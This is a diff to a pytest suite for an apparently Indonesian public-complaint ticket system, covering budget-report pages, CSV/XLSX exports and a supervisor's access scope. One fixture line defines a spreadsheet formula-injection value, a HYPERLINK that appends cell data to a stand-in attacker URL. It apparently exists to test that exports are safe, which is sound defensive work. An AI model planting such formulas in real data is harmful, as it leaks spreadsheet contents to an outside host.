@@ -13,7 +13,16 @@ import pytest
 from openpyxl import load_workbook
 
 from suite.database import utcnow
-from tests.helpers import citizen_client, lorong_fields, set_ticket, staff_client, submit, ticket_code_from
+from tests.helpers import (
+    citizen_client,
+    gen_staff,
+    login_staff,
+    lorong_fields,
+    set_ticket,
+    staff_client,
+    submit,
+    ticket_code_from,
+)
 
 TLANAKAN, PADEMAWU = "35.28.01.2001", "35.28.02.1018"  # Dabuan (Tlanakan), Barurambat Timur (Pademawu)
 FORMULA_ROAD = '=HYPERLINK("http://jahat.example/?"&B2,"Lihat")'
@@ -133,6 +142,7 @@ def test_lists_show_open_heavy_damage_and_waiting_for_budget_but_no_health_or_se
     assert [row[:2] for row in waiting[:2]] == [["2027", world["road_2025"]], ["2028", world["drain"]]]
     assert waiting[2] == ["1 tiket rahasia atau kesehatan dihitung tetapi tidak dirinci."]
     page = command.get("/petugas/laporan-anggaran?tahun=2026").get_data(as_text=True)
+    assert f'<a href="/petugas/tiket/{world["road_a"]}">{world["road_a"]}</a>' in page
     xlsx = command.get("/petugas/laporan-anggaran.xlsx?tahun=2026").data
     for output in (page, "\n".join(",".join(r) for r in rows), _xlsx_text(xlsx)):
         assert world["road_a"] in output
@@ -194,6 +204,13 @@ def test_the_page_prints_every_section_and_an_agency_supervisor_sees_only_their_
     # The whole regency for regency-wide staff: DLH's waste complaints are there.
     command = staff_client(app, None, "supervisor")
     assert "Sampah dan lingkungan" in command.get("/petugas/laporan-anggaran?tahun=2026").get_data(as_text=True)
+    # A supervisor scoped to e-Madul sees its tickets only: no road in the figures or the lists.
+    _, email = gen_staff(app, None, "supervisor", modules=["madul"])
+    madul = app.test_client()
+    login_staff(madul, email)
+    rows = _csv(madul, "/petugas/laporan-anggaran.csv?tahun=2026")
+    assert not [row for row in rows if "e-Lorong" in row or world["road_a"] in row]
+    assert ["Jumlah", "", "2", "1", "-50.0"] in _section(rows, "tren")
 
 
 def test_officers_are_refused(app, world):
